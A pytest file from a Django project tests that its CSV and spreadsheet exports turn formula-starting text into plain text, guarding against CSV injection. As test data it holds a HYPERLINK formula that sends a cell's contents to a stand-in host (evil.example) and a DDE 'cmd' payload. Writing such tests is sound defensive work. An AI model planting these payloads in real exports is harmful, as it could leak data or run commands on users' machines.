"""Exports never hand a spreadsheet program a formula (OWASP's CSV injection): a text that
begins with =, +, -, @, a tab or a carriage return is kept as text in the register's and the
collaborations' CSV files and in the annual report's spreadsheet; numbers stay numbers."""

import csv
import io
from io import BytesIO

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from samverkan.core.exports import safe_cell, safe_sheet_row
from samverkan.reports.xlsx import render_report_xlsx
from tests import factories
from tests.partnerships.factories import CollaborationFactory
from tests.reports.sample_snapshot import sample_snapshot

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"klick")'


def csv_rows(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_text_that_a_spreadsheet_would_run_gets_an_apostrophe(start):
    assert safe_cell(start + "cmd|' /C calc'!A0") == "'" + start + "cmd|' /C calc'!A0"


@pytest.mark.parametrize("value", [-12, -3.5, 0, 2022, "-12", "+46", "Malmö", "", None])
def test_numbers_and_ordinary_text_are_left_as_they_are(value):
    assert safe_cell(value) == value


@pytest.mark.django_db
def test_the_register_csv_keeps_a_formula_in_a_city_as_text(client):
    factories.OrganisationFactory(name="Föreningen Formel", city=EVIL)

    rows = csv_rows(client.get(reverse("actors:register_csv")))

    assert "'" + EVIL in rows[1]
    assert EVIL not in rows[1]


@pytest.mark.django_db
def test_the_collaborations_csv_keeps_a_formula_in_a_title_as_text(client):
    collaboration = CollaborationFactory(title="@SUM(1+1)*cmd")
    address = reverse("partnerships:csv", kwargs={"agreement": collaboration.agreement.slug})

    rows = csv_rows(client.get(address))

    assert rows[1][0] == "'@SUM(1+1)*cmd"
    assert rows[1][5] == "2021"  # the mapping year is still a plain number


def test_the_annual_reports_spreadsheet_stores_a_formula_in_a_table_as_text():
    snapshot = sample_snapshot()
    table = next(table for section in snapshot["sections"] for table in section["tables"])
    table["rows"][0][1] = EVIL

    workbook = load_workbook(BytesIO(render_report_xlsx(snapshot, status="published")))

    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    evil = [cell for cell in cells if cell.value == EVIL]
    assert evil and all(cell.data_type == "s" for cell in evil)
    assert not [cell for cell in cells if cell.data_type == "f"]


def test_a_negative_number_in_a_spreadsheet_stays_a_number():
    sheet = Workbook().active

    safe_sheet_row(sheet, [-1500, "-", "=1+1"])

    assert [cell.data_type for cell in sheet[1]] == ["n", "s", "s"]
    assert sheet["A1"].value == -1500
